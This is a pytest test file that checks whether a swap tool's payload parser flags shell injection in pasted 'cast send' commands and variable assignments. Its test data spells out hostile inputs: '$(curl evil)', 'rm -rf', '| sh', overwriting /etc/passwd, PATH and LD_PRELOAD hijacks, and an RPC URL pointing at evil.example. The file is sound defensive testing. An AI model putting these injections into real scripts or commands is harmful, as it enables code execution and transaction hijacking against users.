"""Shell text is what `calldata` prints, character by character, or it is dangerous where it differs."""

from __future__ import annotations

import shlex
from collections.abc import Callable

import pytest

from swapcli.core.errors import InvalidInput
from swapcli.payload.decode.documents import PayloadInput, parse_payload
from tests.examples import examples, generator

ROUTER, TOKEN, ME = "0x" + "55" * 20, "0x" + "77" * 20, "0x" + "1" * 40
APPROVAL, SWAP = "0x095ea7b3" + "00" * 64, "0x8619b04e" + "00" * 64
ACCESS_LIST = f'[{{"address":"{TOKEN}","storageKeys":["0x{"00" * 32}"]}}]'
FIELDS = f"--from {ME} --nonce 7 --gas-limit 300000 --gas-price 20000000 --priority-gas-price 1000"
CAST = (
    f"cast send --chain 8453 --value 0 {FIELDS} {TOKEN} {APPROVAL}\n"
    f"cast send --chain 8453 --value 5 {FIELDS} --access-list {shlex.quote(ACCESS_LIST)} {ROUTER} {SWAP}\n"
)
SHELL = f"""\
SWAP_NETWORK=base
SWAP_CHAIN_ID=8453
SWAP_TO={ROUTER}
SWAP_VALUE=5
SWAP_CALLDATA={SWAP}
SWAP_MIN_RECEIVED=1000
SWAP_EXPIRES_AT=1795900000
SWAP_WARNINGS='STATE_MODELLED ROUTER_UNVERIFIED'
SWAP_APPROVALS=1
SWAP_APPROVAL_1_TO={TOKEN}
SWAP_APPROVAL_1_CALLDATA={APPROVAL}
"""

Change = Callable[[str], str]


def line(number: int, text: str) -> Change:
    """Return a change that inserts a line before another one, which count from 1."""
    return lambda honest: "\n".join([*honest.splitlines()[: number - 1], text, *honest.splitlines()[number - 1 :]])


def swap(old: str, new: str) -> Change:
    return lambda honest: honest.replace(old, new, 1)


def is_swap(given: PayloadInput) -> bool:
    return (given.payload.to, given.payload.calldata, given.payload.value) == (ROUTER, SWAP, 5)


@pytest.mark.parametrize(
    "text", [CAST, SHELL, CAST.replace("\n", "\r\n"), SHELL.replace("\n", "\r\n"), f"\n{SHELL}\n\n"]
)
def test_the_printed_text_is_read_whole(text: str) -> None:
    given = parse_payload(text)
    assert given.oddities == ()
    assert is_swap(given)
    assert [each.to for each in given.listed] == [TOKEN, ROUTER]
    assert given.chain_ids == (8453,)


HONEST: dict[str, str] = {
    "exported": "".join(f"export {each}\n" for each in SHELL.splitlines()),
    "quoted": "".join(
        f"{name}='{value.strip(chr(39))}'\n" for name, _, value in (each.partition("=") for each in SHELL.splitlines())
    ),
    "in double quotes": SHELL.replace("'", '"'),
    "no warnings": SHELL.replace("'STATE_MODELLED ROUTER_UNVERIFIED'", "''"),
    "one warning": SHELL.replace("'STATE_MODELLED ROUTER_UNVERIFIED'", "STATE_MODELLED"),
    "an attached argument": CAST.replace("--value 5", "--value=5"),
    "blank lines": CAST.replace("\n", "\n\n"),
    "more blanks": CAST.replace("--value 5", "  --value   5 "),
}


@pytest.mark.parametrize("name", HONEST)
def test_other_spellings_of_the_same_are_honest(name: str) -> None:
    given = parse_payload(HONEST[name])
    assert given.oddities == ()
    assert is_swap(given)


CAST_CHANGES: dict[str, tuple[Change, str]] = {
    "a substitution as an argument": (swap("--nonce 7", "--nonce $(curl evil)"), "$ outside quotes at line 1, column"),
    "a substitution at the end": (lambda text: f"{text.strip()}$(rm x)", "$ outside quotes at line 2"),
    "backticks": (swap("--value 5", "--value 5 `id`"), "` outside quotes at line 2"),
    "a substitution in double quotes": (swap("--value 5", '--value "5$(id)"'), "$ inside double quotes"),
    "backticks in double quotes": (swap("--value 5", '--value "5`id`"'), "` inside double quotes"),
    "a variable": (swap("--value 5", "--value 5 $IFS"), "$ outside quotes at line 2"),
    "a second command": (lambda text: f"{text.strip()}; rm -rf x", "; outside quotes at line 2"),
    "a second command without a blank": (lambda text: f"{text.strip()};id", "; outside quotes"),
    "a command before": (lambda text: f"true; {text}", "; outside quotes at line 1, column 5"),
    "a pipe": (lambda text: f"{text.strip()} | sh", "| outside quotes"),
    "a redirection": (lambda text: f"{text.strip()} > /etc/passwd", "> outside quotes"),
    "input from a file": (lambda text: f"{text.strip()} < x", "< outside quotes"),
    "the background": (lambda text: f"{text.strip()} & id", "& outside quotes"),
    "two commands": (lambda text: f"{text.strip()} && id", "& outside quotes"),
    "a subshell": (lambda text: f"({text.strip()})", "( outside quotes at line 1, column 1"),
    "a group": (lambda text: f"{{ {text.strip()} }}", "{ outside quotes at line 1, column 1"),
    "a comment": (swap("--value 5", "--value 5 # "), "# outside quotes"),
    "a glob": (swap("--value 5", "--value 5 *"), "* outside quotes"),
    "a home folder": (swap("--value 5", "--value 5 ~root"), "~ outside quotes"),
    "history": (swap("--value 5", "--value 5 !!"), "! outside quotes"),
    "an escape": (swap("cast send", "c\\ast send"), "a backslash outside quotes at line 1, column 2"),
    "a continued line": (swap("--value 5", "--value 5 \\\n "), "a backslash outside quotes at line 2"),
    "a line break inside quotes": (swap("--value 5", "--value '5\n'"), "a line break inside quotes at line 2"),
    "a control character inside quotes": (swap("--value 5", "--value '5\x1b[2K'"), "U+001B inside quotes"),
    "a quote that stays open": (lambda text: f"{text.strip()} 'x", "' outside quotes at line 2"),
    "a hidden character": (swap("--value 5", "--value\u200b 5"), "U+200B outside quotes"),
    "a hard space": (swap("--value 5", "--value\u00a05"), "U+00A0 outside quotes"),
    "a carriage return": (swap("--value 5", "--value 5\r"), "U+000D outside quotes"),
    "a look-alike of a letter": (swap("--value", "--v\u0430lue"), "outside quotes at line 1"),
    "a prompt": (lambda text: f"$ {text}", "$ outside quotes at line 1, column 1"),
    "an assignment of PATH": (lambda text: f"PATH=/tmp/evil {text}", "an assignment to PATH at line 1, column 1"),
    "a library": (lambda text: f"LD_PRELOAD=/tmp/evil.so {text}", "an assignment to LD_PRELOAD"),
    "a node": (lambda text: f"ETH_RPC_URL=http://evil.example {text}", "an assignment to ETH_RPC_URL"),
    "a node on its own line": (line(1, "ETH_RPC_URL=http://evil"), "an assignment to ETH_RPC_URL at line 1"),
    "an exported variable": (line(2, "export PATH=/tmp/evil"), "an assignment to PATH at line 2"),
    "a variable of calldata": (line(1, f"SWAP_TO={ROUTER}"), "an assignment to SWAP_TO"),
    "another command": (line(2, "curl http://evil.example/x"), "the word curl at line 2, column 1"),
    "a prefix": (lambda text: f"sudo {text}", "the word sudo at line 1, column 1"),
    "a shell": (lambda text: f"sh -c 'true' {text}", "the word sh"),
    "another node": (swap("--value 5", "--value 5 --rpc-url http://evil.example"), "the option --rpc-url at line 2"),
    "another node, attached": (swap("--value 5", "--value 5 --rpc-url=http://evil.example"), "the option --rpc-url"),
    "another node, short": (swap("--value 5", "--value 5 -r http://evil.example"), "the option -r"),
    "a key": (swap("--value 5", "--private-key 0x11 --value 5"), "the option --private-key"),
    "an unlocked account": (swap("--value 5", "--unlocked --value 5"), "the option --unlocked"),
    "a deployment": (swap("--value 5", "--value 5 --create"), "the option --create"),
    "an authorization": (swap("--value 5", f"--auth {ROUTER} --value 5"), "the option --auth"),
    "blobs": (swap("--value 5", "--blob --path x --value 5"), "the option --blob"),
    "another access list": (swap(ACCESS_LIST, '[{"to":1}]'), "an --access-list that is not a list"),
    "text as an access list": (swap(ACCESS_LIST, "x"), "an --access-list that is not a list"),
}  # fmt: skip


@pytest.mark.parametrize("name", CAST_CHANGES)
def test_everything_else_in_cast_commands_is_named(name: str) -> None:
    change, place = CAST_CHANGES[name]
    assert change(CAST) != CAST
    given = parse_payload(change(CAST))
    assert place in "; ".join(given.oddities)
    assert given.payload.calldata == SWAP


SHELL_CHANGES: dict[str, tuple[Change, str]] = {
    "a substitution as a value": (swap("SWAP_VALUE=5", "SWAP_VALUE=$(id)"), "$ outside quotes at line 4, column 12"),
    "a substitution after a value": (swap("SWAP_VALUE=5", "SWAP_VALUE=5$(id)"), "$ outside quotes at line 4"),
    "backticks": (swap("SWAP_VALUE=5", "SWAP_VALUE=`id`"), "` outside quotes at line 4"),
    "a substitution in double quotes": (swap("SWAP_VALUE=5", 'SWAP_VALUE="$(id)"'), "$ inside double quotes at line 4"),
    "a substitution in a note": (line(2, "SWAP_NOTE=$(curl evil)"), "$ outside quotes at line 2, column 11"),
    "a note": (line(2, "SWAP_NOTE=hello"), "an assignment to SWAP_NOTE at line 2, column 1"),
    "a note in quotes": (line(12, "SWAP_NOTE='hello'"), "an assignment to SWAP_NOTE at line 12"),
    "PATH": (line(1, "PATH=/tmp/evil"), "an assignment to PATH at line 1"),
    "PATH, exported": (line(1, "export PATH=/tmp/evil"), "an assignment to PATH at line 1"),
    "a library": (line(1, "LD_PRELOAD=/tmp/evil.so"), "an assignment to LD_PRELOAD"),
    "a node": (line(3, "ETH_RPC_URL=http://evil.example"), "an assignment to ETH_RPC_URL at line 3"),
    "separators": (line(1, "IFS=x"), "an assignment to IFS"),
    "a further command": (line(4, "curl http://evil.example"), "the word curl at line 4"),
    "a command on the line": (swap("SWAP_VALUE=5", "SWAP_VALUE=5; id"), "; outside quotes at line 4"),
    "a command with a variable": (swap("SWAP_VALUE=5", "SWAP_VALUE=5 id"), "the word id at line 4, column 14"),
    "a pipe": (swap("SWAP_VALUE=5", "SWAP_VALUE=5 | sh"), "| outside quotes"),
    "a redirection": (swap("SWAP_VALUE=5", "SWAP_VALUE=5 >x"), "> outside quotes"),
    "the background": (swap("SWAP_VALUE=5", "SWAP_VALUE=5 & id"), "& outside quotes"),
    "a function": (line(1, "cast() { id; }"), "( outside quotes at line 1, column 5"),
    "a line break inside quotes": (swap("STATE_MODELLED ", "STATE_MODELLED\n"), "a line break inside quotes at line 8"),
    "other warnings": (swap("STATE_MODELLED ", "$(id) "), "SWAP_WARNINGS has the value $(id)"),
    "no time": (swap("SWAP_EXPIRES_AT=1795900000", "SWAP_EXPIRES_AT=soon"), "SWAP_EXPIRES_AT has the value soon"),
    "an array": (swap("SWAP_VALUE=5", "SWAP_VALUE[0]=5\nSWAP_VALUE=5"), "[ outside quotes"),
    "a plus": (line(5, "SWAP_VALUE+=5"), "the text has the word SWAP_VALUE+=5"),
    "a colon": (line(1, ": x"), "the word :"),
    "a source": (line(1, ". /tmp/evil"), "the word . at line 1"),
    "an alias": (line(1, "alias cast=/tmp/evil"), "the word alias"),
}  # fmt: skip


@pytest.mark.parametrize("name", SHELL_CHANGES)
def test_everything_else_in_assignments_is_named(name: str) -> None:
    change, place = SHELL_CHANGES[name]
    assert change(SHELL) != SHELL
    given = parse_payload(change(SHELL))
    assert place in "; ".join(given.oddities)
    assert given.payload.calldata == SWAP


@pytest.mark.parametrize(
    "text",
    [
        CAST.replace("--value 5", "--value 1ether"),
        CAST.replace("--value 5", "--value"),
        CAST.replace("--value 5", "--value 5 --value 6"),
        CAST.replace(SWAP, "'approve(address,uint256)' 0x1 2"),
        CAST.replace("8453", "base", 1).replace("8453", "monad", 1),
        SHELL.replace("SWAP_VALUE=5\n", ""),
        SHELL + "SWAP_VALUE=6\n",
        SHELL.replace("SWAP_APPROVALS=1", "SWAP_APPROVALS=2"),
    ],
)
def test_text_within_the_grammar_that_is_not_whole_is_an_error(text: str) -> None:
    with pytest.raises(InvalidInput):
        parse_payload(text)


def test_many_places_are_counted() -> None:
    given = parse_payload(CAST.replace("--value 5", "--value 5 " + "$" * 30))
    assert given.oddities[-1] == "25 more places are unusual"
    assert len(given.oddities) == 6


PIECES = (
    *";|&<>()$`\\!*?[]{}~#^%@\"'\n\t\r \0\x1b\u200b\u00e9", "$(id)", "`id`", "&& id", " --rpc-url http://x", " PATH=/x",
    "\ncurl x\n", " id ", "\nA=b\n", " -x ", "${X}", "'\n'", '"$X"', "\\\n",
)  # fmt: skip


def words_of(text: str) -> list[list[str]] | None:
    """Return the words of each line as a shell reads them; None for text that it cannot read."""
    try:
        return [shlex.split(each) for each in text.replace("\r\n", "\n").split("\n") if each.strip()]
    except ValueError:
        return None


@pytest.mark.parametrize("honest", [CAST, SHELL])
def test_whatever_is_inserted_is_named_or_changes_no_word(honest: str) -> None:
    rng = generator("inserted into shell text")
    for _ in range(examples(100, full=3_000)):
        at, piece = rng.randrange(len(honest) + 1), rng.choice(PIECES)
        changed = honest[:at] + piece + honest[at:]
        try:
            given = parse_payload(changed)
        except InvalidInput:
            continue
        assert given.oddities or words_of(changed) == words_of(honest) or not piece.strip(" \n\t"), changed
